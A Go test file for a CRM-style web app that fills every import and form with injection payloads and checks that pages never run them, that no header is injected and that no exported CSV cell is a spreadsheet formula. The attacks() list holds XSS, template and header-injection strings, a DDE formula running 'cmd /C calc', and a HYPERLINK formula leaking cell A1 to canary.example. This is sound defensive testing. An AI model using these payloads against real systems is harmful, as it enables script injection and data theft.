package app_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"tandem/internal/exchange"
	"tandem/internal/test/browser"
	"tandem/internal/test/dbtest"
	"tandem/internal/test/htmltest"
	"tandem/internal/web/webtest"
)

// attacks are what people write who want something of ours to run, to be sent, or to look like something else. Each calls canary, or asks
// for something at canary.example, if it ever runs.
func attacks() []string {
	return []string{
		`<script>canary()</script>`, `"><img src=x onerror=canary()>`, `'><svg/onload=canary()>`, `</title></textarea></script><script>canary()</script>`,
		`javascript:canary()`, `{{.Secret}}{{7*7}}${canary()}<%= 7*7 %>`, `=HYPERLINK("http://canary.example/?"&A1,"open")`, `@SUM(1+1)*cmd|' /C calc'!A0`,
		"x\r\nSet-Cookie: canary=1\r\nX-Canary: 1", "\u202egnp.exe\u202c \u2066left", "🚲👩‍🚀🏳️‍🌈 zalgo\u0301\u0302", `--v:1;background:url(http://canary.example/x)`,
		`<a href="javascript:canary()" hx-get="/canary" hx-trigger="load">x</a>`, `<!--`, `+1-1`, `\u003cscript\u003ecanary()\u003c/script\u003e`, `%3Cscript%3Ecanary()%3C/script%3E`,
		strings.Repeat("<b>", 60), "a\x00b\xff",
	}
}

// attacked is a site in which every text that can be written or imported is an attack.
func attacked(t *testing.T) *site {
	t.Helper()
	s := newSite(t, dbtest.SQLite(t)).trade()
	for i, attack := range attacks() {
		s.importsAttack(i, attack)
	}
	secret := s.Enter(t, s.Owner.Email)
	for _, form := range s.forms(secret) {
		for i, attack := range attacks() {
			s.fills(secret, form, i, attack, true)
			s.fills(secret, form, i, attack, false)
		}
	}
	return s
}

// importsAttack imports one row of each kind, the attack in every cell that takes words.
func (s *site) importsAttack(i int, attack string) {
	s.t.Helper()
	attack = strings.ToValidUTF8(strings.ReplaceAll(attack, "\x00", ""), "") // a file with such bytes is refused as a whole
	email, day := fmt.Sprintf("attack%d@x.example", i), fmt.Sprintf("2026-05-%02d", i%17+1)
	for _, file := range []struct {
		kind exchange.Kind
		rows [][]string
	}{
		{exchange.Companies, [][]string{{"name", "street", "city", "region", "owner", "tags"}, {fmt.Sprint(attack, i), attack, attack, attack, attack, attack}}},
		{exchange.Contacts, [][]string{
			{"email", "name", "first_name", "last_name", "company", "title", "street", "city", "region", "owner", "tags", "channel", "source", "campaign"},
			{email, attack, attack, attack, fmt.Sprint(attack, i), attack, attack, attack, attack, attack, attack, attack, attack, attack},
		}},
		{exchange.Touches, [][]string{
			{"contact", "at", "kind", "channel", "source", "medium", "campaign", "content", "term", "page", "referrer", "note"},
			{email, day, "form_submitted", attack, attack, attack, attack, attack, attack, attack, attack, attack},
		}},
		{exchange.Deals, [][]string{
			{"external_id", "contact", "name", "pipeline", "stage", "status", "amount", "currency", "created_at", "closed_at", "owner", "lost_reason"},
			{fmt.Sprint(attack, i), email, attack, attack, attack, []string{"won", "lost", "open"}[i%3], "100", "EUR", day, []string{day, day, ""}[i%3], attack, attack},
		}},
		{exchange.Payments, [][]string{{"contact", "at", "amount", "currency", "product"}, {email, day, "10", "EUR", attack}}},
		{exchange.Costs, [][]string{{"from", "to", "channel", "source", "campaign", "amount", "currency", "note"}, {day, day, attack, attack, attack, "5", "EUR", attack}}},
	} {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.WriteAll(file.rows); err != nil {
			s.t.Fatal(err)
		}
		s.tries(file.kind, b.String())
	}
	head := fmt.Sprintf("email,%q\numa%d@x.example,%q\n", strings.ReplaceAll(attack, `"`, "'"), i, strings.ReplaceAll(attack, `"`, "'"))
	if _, err := s.Exchange.Bring(s.t.Context(), s.Workspace.ID, s.By(), exchange.Contacts, attack, strings.NewReader(head), exchange.Reading{}); err != nil {
		s.t.Fatal(err)
	}
}

// form is a form of a page, as somebody could fill it in.
type form struct {
	on, action string
	fields     []entry
}

type entry struct {
	name, value string
	words       bool // whether it takes any words
	choosy      bool // whether it takes only words of a sort, such as an email
}

// forms are the forms of every page that send words. Those that change who may come in are left out: the owner has still to look.
func (s *site) forms(secret string) []form {
	s.t.Helper()
	seen := map[string]bool{}
	var all []form
	for _, path := range append(pages(), "/palette") {
		page := s.Keeping(s.t, secret).Open(s.at(path))
		for _, n := range page.All("form") {
			f := read(n, s.at(path))
			kind := s.unnamed(f.action)
			if seen[kind] || !strings.Contains(strings.ToLower(webtest.Attr(n, "method")), "post") || !f.takesWords() {
				continue
			}
			seen[kind] = true
			all = append(all, f)
		}
	}
	if len(all) < 10 {
		s.t.Fatalf("only %d forms", len(all))
	}
	return all
}

// unnamed is an address with each id in it the same.
func (s *site) unnamed(address string) string {
	var parts []string
	for part := range strings.SplitSeq(address, "/") {
		if len(part) == 13 && strings.ToUpper(part) == part {
			part = "{id}"
		}
		parts = append(parts, part)
	}
	return strings.Join(parts, "/")
}

func (f form) takesWords() bool {
	for _, one := range f.fields {
		if one.words {
			return true
		}
	}
	return false
}

// read reads a form as it stands on a page.
func read(n *html.Node, on string) form {
	f := form{on: on, action: webtest.Attr(n, "action")}
	for d := range n.Descendants() {
		name, typ := webtest.Attr(d, "name"), webtest.Attr(d, "type")
		one := entry{name: name, value: webtest.Attr(d, "value")}
		switch {
		case name == "" || typ == "file" || typ == "submit":
			continue
		case d.Data == "textarea":
			one.value, one.words = webtest.TextOf(d), true
		case d.Data == "select":
			one.value = chosen(d)
		case d.Data == "input" && (typ == "radio" || typ == "checkbox"):
			if !has(d, "checked") {
				continue
			}
		case d.Data == "input":
			one.words = typ == "" || typ == "text" || typ == "search" || typ == "email" || typ == "tel" || typ == "url"
		default:
			continue
		}
		one.choosy = typ == "email" || strings.Contains(" emails email currency timezone country language phones domain vat_id ", " "+name+" ")
		f.fields = append(f.fields, one)
	}
	return f
}

func chosen(n *html.Node) string {
	first := ""
	for d := range n.Descendants() {
		if d.Data != "option" {
			continue
		}
		if has(d, "selected") {
			return webtest.Attr(d, "value")
		}
		if first == "" {
			first = webtest.Attr(d, "value")
		}
	}
	return first
}

func has(n *html.Node, name string) bool {
	for _, a := range n.Attr {
		if a.Key == name {
			return true
		}
	}
	return false
}

// fills sends a form with an attack in every field that takes words, or in those that take any. It may be refused, but never break, and what
// comes back is our own page.
func (s *site) fills(secret string, f form, i int, attack string, everywhere bool) {
	s.t.Helper()
	sent := url.Values{}
	for _, one := range f.fields {
		switch {
		case one.words && !one.choosy, one.words && everywhere:
			sent.Add(one.name, attack)
		case one.words && strings.HasPrefix(one.name, "email"):
			sent.Add(one.name, fmt.Sprintf("form%d.%s@x.example", i, strings.Trim(strings.ReplaceAll(s.unnamed(f.action), "/", "."), ".{}")))
		default:
			sent.Add(one.name, one.value)
		}
	}
	r := httptest.NewRequestWithContext(s.t.Context(), http.MethodPost, f.action, strings.NewReader(sent.Encode()))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("Accept", "text/html")
	s.sound(f.action, s.Keeping(s.t, secret).Do(r))
}

// sound checks that an answer is whole and our own.
func (s *site) sound(at string, page *webtest.Page) {
	s.t.Helper()
	if page.Status >= http.StatusInternalServerError {
		s.t.Errorf("%s breaks: %d %s", at, page.Status, page.Text())
	}
	if strings.Contains(page.Header.Get("Set-Cookie"), "canary=") || page.Header.Get("X-Canary") != "" {
		s.t.Errorf("%s answers with somebody's header: %v", at, page.Header)
	}
	if !strings.HasPrefix(page.Body, "<!doctype") {
		return
	}
	for _, wrong := range htmltest.Wrong(page.Body) {
		s.t.Errorf("%s: %s", at, wrong)
	}
}

// whatPeopleWriteNeverRuns opens every page of a site full of attacks that a link leads to, from page to page.
func whatPeopleWriteNeverRuns(t *testing.T, b *browser.Browser) {
	s := attacked(t)
	c := &crawl{site: s, tab: signedIn(t, b, s, s.Owner.Email).Watch(), seen: map[string]int{}, starts: map[string]bool{}}
	c.tab.Expect("status of 404", "status of 422")
	for _, path := range pages() {
		c.starts[s.at(path)] = true
		c.note(s.at(path))
	}
	for len(c.queue) > 0 {
		path := c.queue[0]
		c.queue = c.queue[1:]
		c.visit(t, path)
	}
	if c.visited < 60 {
		t.Errorf("only %d pages", c.visited)
	}
	c.types(t)
}

// crawl goes from link to link.
type crawl struct {
	*site
	tab     *browser.Tab
	queue   []string
	seen    map[string]int // how often a sort of address was noted
	visited int
	starts  map[string]bool // where no link needs to lead
}

// The most addresses that are opened of one page, and of one page with one set of choices: they show other attacks, but no other places.
const (
	mostOfAPage   = 14
	mostOfAChoice = 4
)

func (c *crawl) note(path string) {
	u, err := url.Parse(path)
	if err != nil {
		c.t.Errorf("a link to %q", path)
		return
	}
	page := c.unnamed(u.Path)
	sort := page + "?"
	for _, name := range slices.Sorted(maps.Keys(u.Query())) {
		sort += "&" + name
	}
	if c.seen["at "+path]++; c.seen["at "+path] > 1 || strings.Contains(u.Path, "export") {
		return
	}
	c.seen[sort]++
	c.seen["page "+page]++
	if c.seen[sort] <= mostOfAChoice && c.seen["page "+page] <= mostOfAPage {
		c.queue = append(c.queue, path)
	}
}

func (c *crawl) visit(t *testing.T, path string) {
	c.visited++
	c.tab.Go(path)
	if status := browser.Eval[int](c.tab, "performance.getEntriesByType('navigation')[0].responseStatus"); status >= 400 && !c.starts[path] && !strings.HasPrefix(path, "/api/") {
		t.Errorf("a link leads to %s, which answers %d", path, status)
	}
	if c.tab.Ran() {
		t.Errorf("on %s somebody's words ran", path)
	}
	for _, found := range browser.Eval[[]string](c.tab, `[...document.querySelectorAll("a[href], [hx-get], [data-url]")]
		.map(e => e.getAttribute("href") ?? e.getAttribute("hx-get") ?? e.dataset.url)`) {
		switch {
		case strings.HasPrefix(found, "/"):
			c.note(found)
		case strings.HasPrefix(found, "?"):
			c.note(strings.Split(path, "?")[0] + found)
		case !strings.HasPrefix(found, "#") && !strings.HasPrefix(found, "mailto:") && !strings.HasPrefix(found, "tel:"):
			t.Errorf("%s leads to %q", path, found)
		}
	}
	c.tab.Calm()
}

// types writes attacks where the page itself puts what is found or done into place.
func (c *crawl) types(t *testing.T) {
	tab := c.tab
	for _, attack := range attacks()[:6] {
		tab.Go("/").Chord("k").Has("#palette").Fill("q", attack).Has("#palette-list *")
		tab.Go("/people").Fill("q", attack).Leads("/people?q=")
		tab.Go("/people/"+c.names["hugo"]).Fill("text", attack).Press("Save note").Says("Note saved")
		if tab.Ran() {
			t.Errorf("%q ran as it was typed", attack)
		}
	}
}

// noFormulas checks every cell of every file that we give away: none is what a spreadsheet would run.
func TestNoCellOfAnExportIsAFormula(t *testing.T) {
	s := attacked(t)
	files := map[string]string{}
	for _, kind := range exchange.Kinds() {
		var b bytes.Buffer
		if _, err := s.Exchange.Export(t.Context(), s.Workspace.ID, s.By(), kind, exchange.CSV, &b); err != nil {
			t.Fatal(err)
		}
		files[string(kind)] = b.String()
	}
	secret := s.Enter(t, s.Owner.Email)
	for _, path := range []string{"/people/export", "/loop/export", "/loop/export?by=campaign", "/loop/export?by=source"} {
		files[path] = s.Keeping(t, secret).Open(path).Is(http.StatusOK).Body
	}
	for name, text := range files {
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff"))).ReadAll()
		if err != nil || len(rows) < 2 && name != "rates" {
			t.Errorf("%s: %d rows, %v", name, len(rows), err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if runs(cell) {
					t.Errorf("%s: a spreadsheet runs %q", name, cell)
				}
			}
		}
	}
}

// runs reports whether a spreadsheet takes a cell for a formula. A number with its sign is none.
func runs(cell string) bool {
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && strings.Trim(cell, "+-0123456789.,") != ""
}
